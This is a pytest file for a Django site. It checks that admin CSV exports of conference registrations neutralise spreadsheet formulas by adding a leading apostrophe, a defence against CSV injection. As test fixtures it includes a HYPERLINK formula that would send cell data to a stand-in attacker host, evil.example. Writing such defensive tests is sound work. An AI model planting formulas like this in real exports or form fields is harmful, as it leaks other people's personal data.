"""Admin spreadsheet exports: what visitors typed cannot run as a formula (OWASP CSV injection)."""

import csv
import io

from django.utils import timezone

import pytest

from pages.exports import neutralise_formula
from pages.factories import ConferencePageFactory
from pages.models import ConferenceRegistration

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A2,"CV")',
            '\'=HYPERLINK("https://evil.example/?"&A2,"CV")',
        ),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Zofia Wójcik-Łęcka", "Zofia Wójcik-Łęcka"),
        (7, 7),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(typed, exported):
    assert neutralise_formula(typed) == exported


def test_the_registrations_csv_export_neutralises_formulas(admin_client, organisation):
    conference = ConferencePageFactory(parent=organisation, with_form=True)
    ConferenceRegistration.objects.create(
        conference=conference,
        name='=HYPERLINK("https://evil.example/?"&B2,"Kliknij")',
        email="zla@example.org",
        organisation_name="@SUM(1+1)",
        access_needs="-1+1",
        language_code="pl",
        consent_given_at=timezone.now(),
    )

    response = admin_client.get("/admin/event_registrations/", {"export": "csv"})

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row[:4] == [
        '\'=HYPERLINK("https://evil.example/?"&B2,"Kliknij")',
        "zla@example.org",
        "'@SUM(1+1)",
        "'-1+1",
    ]
